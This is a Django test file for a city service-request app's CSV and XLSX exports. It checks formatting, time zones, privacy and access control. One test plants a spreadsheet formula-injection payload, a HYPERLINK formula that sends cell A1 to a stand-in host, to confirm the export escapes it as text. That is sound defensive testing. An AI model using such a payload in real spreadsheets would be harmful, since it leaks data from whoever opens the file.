"""The request exports: CSV streamed with a header and no personal data; XLSX a real workbook; coordinator only."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from unittest import mock

from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from kotacerdas.core.testing import RegionTestCase
from kotacerdas.regions.models import Region
from kotacerdas.servicerequests import exports, services
from kotacerdas.servicerequests.models import ServiceRequest
from kotacerdas.servicerequests.tests.factories import NOW, ServiceRequestTestCase

HEADER = (
    "\ufeffid,service_code,service,agency,kind,status,requested_at,response_due_at,responded_at,"
    "resolution_due_at,resolved_at,secret,address,lat,long\r\n"
)
# Session+user+memberships, region (see test_it_reads_a_fixed_number_of_queries).
PAGE_QUERIES = 2


class ExportTests(RegionTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        service = services.service_save(
            region=cls.region, agency=cls.public_works, actor=cls.officer, code="LAMPU", name="Lampu jalan mati"
        )
        for n in range(3):
            data = services.RequestData(
                description=f"Lampu mati {n}", address="Gang Mawar", reporter_name="Budi Rahasia"
            )
            services.request_submit(service=service, data=data, citizen=cls.citizen, actor=cls.citizen)

    def url(self, name: str) -> str:
        return reverse(f"servicerequests:{name}", kwargs={"region_slug": self.region.slug})

    def test_it_streams_every_request_as_csv_without_personal_data(self) -> None:
        self.client.force_login(self.officer)
        response = self.client.get(self.url("export_csv"))
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.streaming)
        body = b"".join(response.streaming_content).decode()
        lines = body.strip().splitlines()
        self.assertTrue(lines[0].lstrip("\ufeff").startswith("id,service_code,service,agency"))
        self.assertEqual(len(lines), 4)
        self.assertNotIn("Budi Rahasia", body)
        self.assertNotIn(self.citizen.username, body)

    def test_it_writes_a_real_xlsx_workbook(self) -> None:
        self.client.force_login(self.officer)
        response = self.client.get(self.url("export_xlsx"))
        self.assertEqual(response.status_code, 200)
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
        rows = list(workbook["requests"].iter_rows(values_only=True))
        self.assertEqual(rows[0][:2], ("id", "service_code"))
        self.assertEqual(len(rows), 4)

    def test_a_text_that_looks_like_a_formula_stays_text_in_both_formats(self) -> None:
        address = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
        ServiceRequest.objects.filter(region=self.region).update(address=address)
        ServiceRequest.objects.filter(pk=ServiceRequest.objects.filter(region=self.region).first().pk).update(
            address="-7 RT 03"  # a minus, an at sign, a plus: also how formulas start
        )
        self.client.force_login(self.officer)
        body = b"".join(self.client.get(self.url("export_csv")).streaming_content).decode()
        cells = [row[12] for row in csv.reader(io.StringIO(body.lstrip("\ufeff")))][1:]
        self.assertEqual(sorted(cells), sorted(["'-7 RT 03", "'" + address, "'" + address]))
        response = self.client.get(self.url("export_xlsx"))
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        column = [row[12] for row in workbook["requests"].iter_rows(min_row=2)]
        self.assertEqual(sorted(c.value for c in column), sorted(["-7 RT 03", address, address]))
        self.assertEqual({c.data_type for c in column}, {"s"})  # text, never a formula

    def test_it_refuses_agency_staff_and_citizens(self) -> None:
        for user in (self.operator, self.citizen):
            self.client.force_login(user)
            self.assertEqual(self.client.get(self.url("export_csv")).status_code, 403)
        self.client.force_login(self.outsider)
        self.assertEqual(self.client.get(self.url("export_csv")).status_code, 404)


class CsvExportTests(ServiceRequestTestCase):
    """The CSV's exact text: local times to the second, escaped cells, blank for nothing, in pieces of many rows."""

    def setUp(self) -> None:
        super().setUp()
        self.client.force_login(self.officer)

    def url(self) -> str:
        return reverse("servicerequests:export_csv", kwargs={"region_slug": self.region.slug})

    def pieces(self) -> list[str]:
        response = self.client.get(self.url())
        assert isinstance(response, StreamingHttpResponse)
        return [bytes(piece).decode() for piece in response.streaming_content]

    def submit_many(self, count: int) -> list[ServiceRequest]:
        return [self.submit(description=f"Lampu mati {n}") for n in range(count)]

    def test_it_writes_each_cell_as_before(self) -> None:
        request = self.submit(address='Jl. "Mawar", No. 5', is_secret=True)
        ServiceRequest.objects.filter(pk=request.pk).update(
            lat=Decimal("-7.801234"),
            long=Decimal("110.364321"),
            responded_at=NOW + dt.timedelta(hours=3, minutes=25, seconds=7, microseconds=654321),
            resolved_at=dt.datetime(2026, 11, 10, 18, 30, 5, 999999, tzinfo=dt.UTC),  # the next day in WIB
        )
        header, body = self.pieces()
        self.assertEqual(header, HEADER)
        row = (
            f"{request.pk},PJU-01,Lampu penerangan jalan mati,{self.public_works.name},complaint,submitted,"
            "2026-11-10T09:00:00+07:00,2026-11-10T11:00:00+07:00,2026-11-10T12:25:07+07:00,"
            '2026-11-11T09:00:00+07:00,2026-11-11T01:30:05+07:00,True,"Jl. ""Mawar"", No. 5",-7.801234,110.364321\r\n'
        )
        self.assertEqual(body, row)

    def test_it_leaves_cells_without_a_value_blank(self) -> None:
        request = self.submit()
        ServiceRequest.objects.filter(pk=request.pk).update(address="")  # a request placed by its RT only
        _, body = self.pieces()
        self.assertEqual(body.split(",")[8], "")  # responded_at
        self.assertTrue(body.endswith(",2026-11-11T09:00:00+07:00,,False,,,\r\n"), body)
        self.assertTrue(body.startswith(f"{request.pk},"))

    def test_it_gives_times_in_the_regions_own_zone(self) -> None:
        Region.objects.filter(pk=self.region.pk).update(time_zone="Asia/Jayapura")
        self.submit()
        _, body = self.pieces()
        self.assertIn(",2026-11-10T11:00:00+09:00,2026-11-10T13:00:00+09:00,,", body)

    def test_it_sends_many_rows_per_piece(self) -> None:
        requests = self.submit_many(5)
        with mock.patch.object(exports, "ROWS_PER_WRITE", 2):
            pieces = self.pieces()
        self.assertEqual([piece.count("\r\n") for piece in pieces], [1, 2, 2, 1])
        ids = [int(line.split(",")[0]) for line in "".join(pieces[1:]).splitlines()]
        self.assertEqual(ids, [request.pk for request in requests])

    def test_it_sends_the_header_alone_for_a_region_without_requests(self) -> None:
        self.assertEqual(self.pieces(), [HEADER])

    def test_it_reads_a_fixed_number_of_queries(self) -> None:
        self.submit_many(5)
        with mock.patch.object(exports, "ROWS_PER_WRITE", 2), self.assertNumQueries(PAGE_QUERIES + 1):
            self.assertEqual(len(self.pieces()), 4)
        self.submit_many(5)
        with self.assertNumQueries(PAGE_QUERIES + 1):
            self.assertEqual(len(self.pieces()), 2)
